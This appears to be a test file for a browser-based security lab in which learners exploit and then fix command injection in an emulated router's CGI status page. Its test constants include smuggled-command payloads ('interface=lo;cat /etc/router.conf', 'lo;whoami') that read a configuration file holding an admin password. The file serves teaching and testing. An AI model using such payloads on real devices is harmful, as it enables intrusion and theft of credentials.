/** @jest-environment ./machine-environment.mjs */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs/promises';
import path from 'node:path';
import { type Browser, type Frame, type Page } from 'playwright-core';
import { V86 } from 'v86';
import { type LabMachines } from '@triad/shared/lab-machines';
import { routerStatusPage } from '../../backend/src/demo/labs/router-status-page';
import { launchBrowser } from '../scripts/browser.mjs';
import { type EmulatorClass } from '../src/lab-machine/emulator';
import { type ImageManifest, type MachineImage, V86_VERSION } from '../src/lab-machine/image';
import { RunningLab } from '../src/lab-machine/running-lab';
import { Academy } from './academy';
import { eventually } from './eventually';

const PROJECT = path.resolve(import.meta.dirname, '../..');
const IMAGE = path.join(PROJECT, 'labs/image');
const BUILD_MS = 600_000;
const START_MS = 120_000;

const FLAGS: Record<string, string> = {
  settings: 'TRIAD{READFROMTHEROUTER}',
  mended: 'TRIAD{THEHOLEISCLOSED}',
};
/** The lab as a learner gets it. */
const LAB = JSON.parse(
  JSON.stringify({ machines: routerStatusPage().machines }).replace(
    /\{\{flag:(\w+)\}\}/g,
    (_, task: string) => FLAGS[task]!,
  ),
) as LabMachines;

const INJECTION = "wget -qO- 'http://router/cgi-bin/status.cgi?interface=lo;cat+/etc/router.conf'";

async function readImage(): Promise<MachineImage> {
  const bytesOf = async (name: string): Promise<ArrayBuffer> =>
    new Uint8Array(await fs.readFile(path.join(IMAGE, name))).buffer;
  const manifest = JSON.parse(await fs.readFile(path.join(IMAGE, 'manifest.json'), 'utf8')) as ImageManifest;
  const { bios, vgaBios, wasm, snapshot } = manifest.files;
  return {
    memoryMiB: manifest.memoryMiB,
    vgaMemoryMiB: manifest.vgaMemoryMiB,
    bios: await bytesOf(bios.name),
    vgaBios: await bytesOf(vgaBios.name),
    wasm: await bytesOf(wasm.name),
    snapshot: await bytesOf(snapshot.name),
    id: snapshot.sha256,
  };
}

/** Builds the image of lab machines where it is missing or older than what it is made of. */
function ensureImage(): void {
  const { status } = spawnSync(
    process.execPath,
    [path.join(PROJECT, 'labs/build-image.mjs'), '--if-missing'],
    {
      stdio: ['ignore', 'ignore', 'inherit'],
    },
  );
  if (status !== 0)
    throw new Error('The image of lab machines could not be built: `npm run labs:image` says why.');
}

beforeAll(ensureImage, BUILD_MS);

describe('The router’s status page under Node', () => {
  const SIZE = { columns: 200, rows: 50 };
  let image: MachineImage;
  let lab: RunningLab;
  const consoles = new Map<string, string>();
  const options = () => ({
    Emulator: V86 as unknown as EmulatorClass,
    image,
    size: SIZE,
    onOutput: (host: string, byte: number) =>
      consoles.set(host, (consoles.get(host) ?? '') + String.fromCharCode(byte)),
  });

  beforeAll(async () => {
    image = await readImage();
    lab = await RunningLab.start(LAB, options());
    await lab.untilReady(START_MS);
    await eventually(
      () => Promise.resolve(LAB.machines.every(({ host }) => prompts(host))),
      'both prompts',
      START_MS,
    );
  }, 2 * START_MS);
  afterAll(() => lab?.destroy());

  /** Without carriage returns and what moves the cursor. */
  // eslint-disable-next-line no-control-regex
  const textOf = (host: string): string => (consoles.get(host) ?? '').replace(/\r|\x1b\[[\d;]*[a-zA-Z]/g, '');
  const prompts = (host: string): boolean => /[$#] $/.test(textOf(host));

  /** Runs a command in the console of a machine, and resolves with what it printed. */
  async function run(host: string, command: string): Promise<string> {
    // What is typed ahead is printed twice.
    await eventually(() => Promise.resolve(prompts(host)), `a prompt of ${host}`, START_MS);
    consoles.set(host, '');
    lab.machines.get(host)!.type(`${command}; echo "EN""D"\n`);
    const printed = () => textOf(host);
    await eventually(
      () => Promise.resolve(/END\n/.test(printed())),
      `${command} to end; so far: ${printed()}`,
      START_MS,
    );
    // Without the echo of the command.
    return printed()
      .slice(printed().indexOf('\n') + 1)
      .replace(/END\n[^]*/, '');
  }

  it('is of the emulator that the frame has', async () => {
    const { version } = JSON.parse(
      await fs.readFile(path.join(PROJECT, 'node_modules/v86/package.json'), 'utf8'),
    ) as { version: string };
    expect(version.split('+')[0]).toBe(V86_VERSION);
  });

  it('starts machines that are named, dated and joined', async () => {
    expect(await run('attacker', 'hostname; id -un')).toBe('attacker\nroot\n');
    expect(await run('router', 'hostname; id -un')).toBe('router\nlearner\n');
    const seconds = Number(await run('attacker', 'date +%s'));
    expect(Math.abs(seconds - Date.now() / 1_000)).toBeLessThan(30);
    expect(await run('attacker', 'ping -c 3 router | grep received')).toContain('3 packets received');
    const cards = await Promise.all(
      ['attacker', 'router'].map((host) => run(host, 'cat /sys/class/net/eth0/address')),
    );
    expect(new Set(cards).size).toBe(2);
  });

  it('is broken into by its parameter, and by nothing else', async () => {
    expect(
      await run('router', 'cat /etc/router.conf /root/proof /srv/check/cgi-bin/check.cgi 2>&1'),
    ).not.toMatch(/TRIAD/);
    expect(await run('attacker', 'wget -qO- http://router:8080/ 2>&1')).toContain('refused');
    expect(await run('attacker', "wget -qO- 'http://router/cgi-bin/status.cgi?interface=lo;whoami'")).toMatch(
      /^www$/m,
    );
    expect(await run('attacker', INJECTION)).toContain(`admin_password=${FLAGS['settings']}`);
  });

  it('gives the second flag only when it is mended', async () => {
    expect(await run('router', 'check')).toBe('Not yet: a semicolon still runs a command.\n');
    const mend = (line: string) =>
      run(
        'router',
        `sed -i '$d' /var/www/cgi-bin/status.cgi; echo '${line}' >>/var/www/cgi-bin/status.cgi; check`,
      );
    expect(await mend('echo nothing')).toBe('Not yet: the page does not show eth0 any more.\n');
    expect(await mend('sh -c "ip address show dev \\"$interface\\""')).toMatch(
      /^Not yet: .* still runs a command\.\n$/,
    );
    expect(await mend('ip address show dev "$interface"')).toBe(
      `Mended. Both interfaces are shown and no attack got through.\n${FLAGS['mended']}\n`,
    );
    expect(await run('attacker', INJECTION)).not.toContain('TRIAD');
  });

  it('uses no processor while it is paused, and has the right time afterwards', async () => {
    await run('attacker', 'while sleep 0.1; do echo >>/tmp/n; done & true');
    await lab.pause();
    const before = process.cpuUsage();
    await new Promise((resolve) => setTimeout(resolve, 2_000));
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 2e6).toBeLessThan(0.2);
    await lab.continue();
    const seconds = Number(await run('attacker', 'kill %1; sleep 1; date +%s'));
    expect(Math.abs(seconds - Date.now() / 1_000)).toBeLessThan(5);
  });

  it('is saved and continues as it was, on the wire too', async () => {
    await run('router', 'echo mine >note');
    const saved = await lab.save();
    await lab.destroy();
    expect(saved.image).toBe(image.id);
    lab = await RunningLab.resume(saved, options());
    await lab.untilReady(START_MS);
    expect(await run('router', 'cat note')).toBe('mine\n');
    expect(await run('attacker', 'wget -qO- http://router/ | head -1')).toBe('<h1>Router</h1>\n');
  });
});

describe('The router’s status page in a browser', () => {
  let academy: Academy;
  let browser: Browser;
  let page: Page;
  let frame: Frame;

  beforeAll(async () => {
    [academy, browser] = await Promise.all([Academy.start(), launchBrowser()]);
    page = await browser.newPage();
  }, START_MS);
  afterAll(async () => {
    await browser?.close();
    expect(await academy?.stop()).toBe(0);
  });

  /** A page that does what the lesson does: fetches the image and posts it to the sandboxed frame. */
  async function open(): Promise<void> {
    const html = '<!doctype html><iframe sandbox="allow-scripts" style="width:1200px;height:600px"></iframe>';
    await page.route('**/harness', (route) => route.fulfill({ contentType: 'text/html', body: html }));
    await page.goto(`${academy.url}/harness`);
    await page.evaluate(async (lab) => {
      const said: string[] = [];
      Object.assign(window, { said });
      const element = document.querySelector('iframe')!;
      const loaded = new Promise<void>((resolve) =>
        window.addEventListener('message', ({ source, data }: MessageEvent<{ type: string }>) => {
          if (source !== element.contentWindow) return;
          said.push(JSON.stringify({ ...data, saved: undefined }));
          if (data.type === 'loaded') resolve();
        }),
      );
      element.src = '/frames/lab-machine.html';
      const bytesOf = async (name: string) => (await fetch(`/lab-image/${name}`)).arrayBuffer();
      const manifest = (await (await fetch('/lab-image/manifest.json')).json()) as ImageManifest;
      const { bios, vgaBios, wasm, snapshot } = manifest.files;
      const image = {
        ...manifest,
        bios: await bytesOf(bios.name),
        vgaBios: await bytesOf(vgaBios.name),
        wasm: await bytesOf(wasm.name),
        snapshot: await bytesOf(snapshot.name),
        id: snapshot.sha256,
      };
      await loaded;
      element.contentWindow!.postMessage({ type: 'start', image, lab, saved: null }, '*');
    }, LAB);
    frame = page.frames().find((one) => one.url().endsWith('lab-machine.html'))!;
  }

  const said = () => page.evaluate(() => (window as unknown as { said: string[] }).said);
  const untilSaid = (what: string) =>
    eventually(
      async () => {
        const messages = await said();
        const failed = messages.find((message) => message.includes('"failed"'));
        if (failed) throw new Error(failed);
        return messages.some((message) => message.includes(what));
      },
      `the frame to say ${what}`,
      START_MS,
    );
  const consoleOf = (host: string) => frame.locator(`#console-${host} .xterm-rows`);

  it(
    'starts both machines, and the attack from the console shows the flag',
    async () => {
      await open();
      await untilSaid('"ready"');
      await eventually(
        async () => (await consoleOf('attacker').innerText()).includes('root@attacker'),
        'a prompt',
      );
      await frame.locator('#console-attacker .xterm-screen').click();
      await page.keyboard.type(`${INJECTION}\n`);
      await eventually(
        async () => (await consoleOf('attacker').innerText()).includes(FLAGS['settings']!),
        'the flag in the console',
      );
      expect(await said()).toContain(JSON.stringify({ type: 'history', text: `attacker: ${INJECTION}\n` }));
    },
    2 * START_MS,
  );

  it('has no session, no storage and no network', async () => {
    expect(await frame.evaluate(() => self.origin)).toBe('null');
    const blocked = await frame.evaluate(async () => {
      const outcome = (attempt: () => unknown) =>
        Promise.resolve()
          .then(attempt)
          .then(
            () => 'possible',
            () => 'blocked',
          );
      return Promise.all([
        outcome(() => fetch('/academy.json')),
        outcome(() => localStorage.length),
        outcome(() => document.cookie),
        outcome(() => parent.document),
      ]);
    });
    expect(blocked).toEqual(['blocked', 'blocked', 'blocked', 'blocked']);
  });

  it('is paused on request, and continues with the next key', async () => {
    const post = (type: string) =>
      page.evaluate((message) => document.querySelector('iframe')!.contentWindow!.postMessage(message, '*'), {
        type,
      });
    await post('pause');
    await untilSaid('{"type":"paused","reason":"asked"}');
    await page.keyboard.type('hostname\n');
    await untilSaid('"continued"');
    await post('save');
    await untilSaid('"saved"');
  });
});
